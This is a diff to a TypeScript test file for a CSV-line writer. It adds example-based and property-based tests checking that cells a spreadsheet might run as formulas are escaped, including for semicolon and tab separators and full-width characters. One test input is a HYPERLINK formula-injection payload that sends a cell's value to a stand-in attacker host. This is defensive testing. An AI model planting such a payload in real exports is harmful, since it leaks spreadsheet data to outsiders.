@@ -1,3 +1,4 @@
+import fc from 'fast-check'
 import { expect, it } from 'vitest'
 import { csvLine } from './csv.ts'
 
@@ -9,8 +10,69 @@ it('writes a line that every CSV reader splits into the same cells', () => {
 
 it('writes no cell that a spreadsheet reads as a formula', () => {
   expect(csvLine(['=1+1', '+49', '@now', '-x', '\t=1', '\r=1'])).toBe(
-    "'=1+1,'+49,'@now,'-x,'\t=1,\"'\r=1\"\r\n",
+    "'=1+1,'+49,'@now,'-x,'\t'=1,\"'\r'=1\"\r\n",
   )
   // Some read their wide forms alike, and what follows an empty line.
-  expect(csvLine(['＝1', '＋1', '－1', '＠a', '\n=1'])).toBe("'＝1,'＋1,'－1,'＠a,\"'\n=1\"\r\n")
+  expect(csvLine(['＝1', '＋1', '－1', '＠a', '\n=1'])).toBe("'＝1,'＋1,'－1,'＠a,\"'\n'=1\"\r\n")
 })
+
+it.each([
+  ['x;=HYPERLINK("http://evil.example?"&A1;"click")', 'x;\'=HYPERLINK("http://evil.example?"&A1;"click")'],
+  ['x;@SUM(1+1)', "x;'@SUM(1+1)"],
+  ['x;  =1', "x;'  =1"],
+  ['x;"=1+1"', 'x;\'"=1+1"'],
+  ['x\n-1', "x\n'-1"],
+  ['x\t+1;＝2', "x\t'+1;'＝2"],
+  ['x;\u00a0\u200b=1', "x;'\u00a0\u200b=1"],
+  ['a-b; c = d', 'a-b; c = d'],
+])('writes none either where something else than a comma separates: %j', (text, written) => {
+  expect(cellsOf(csvLine([text]), ',')).toEqual([written])
+})
+
+it('writes none whatever a spreadsheet takes for the end of a cell, and a long text as soon as a short one', () => {
+  const pieces = fc.constantFrom(
+    ';',
+    '\t',
+    '\n',
+    '\r',
+    ',',
+    '"',
+    ' ',
+    '=',
+    '+',
+    '-',
+    '@',
+    '＝',
+    '\ufeff',
+    'a',
+    '1',
+  )
+  const cells = fc.array(
+    fc.array(pieces, { maxLength: 12 }).map((all) => all.join('')),
+    { minLength: 1 },
+  )
+  fc.assert(
+    fc.property(cells, (given) => {
+      const line = csvLine(given).slice(0, -2)
+      for (const separator of [';', '\t'])
+        for (const cell of cellsOf(line, separator))
+          expect(cell.replace(/^-\d+(?:\.\d+)?(?=,|$)/, ''), line).not.toMatch(/^[\s"\ufeff]*[=+\-@＝]/)
+    }),
+  )
+  expect(csvLine([`${'\t'.repeat(1_000_000)}a`]).length).toBe(1_000_003)
+})
+
+/** As a lenient reader splits it: a quotation mark within a cell is a character like any other. */
+function cellsOf(line: string, separator: string): string[] {
+  const cells: string[] = []
+  let rest = line
+  for (;;) {
+    const quoted = /^"((?:[^"]|"")*)"/.exec(rest)
+    const end = rest.slice(quoted?.[0].length ?? 0).search(separator === ',' ? /[,]|\r\n$/ : /[;\t\r\n]/)
+    const at = end < 0 ? rest.length : end + (quoted?.[0].length ?? 0)
+    const inside = quoted ? (quoted[1] ?? '').replaceAll('""', '"') : ''
+    cells.push(inside + rest.slice(quoted?.[0].length ?? 0, at))
+    if (end < 0 || /^\r\n$/.test(rest.slice(at))) return cells
+    rest = rest.slice(at + 1)
+  }
+}
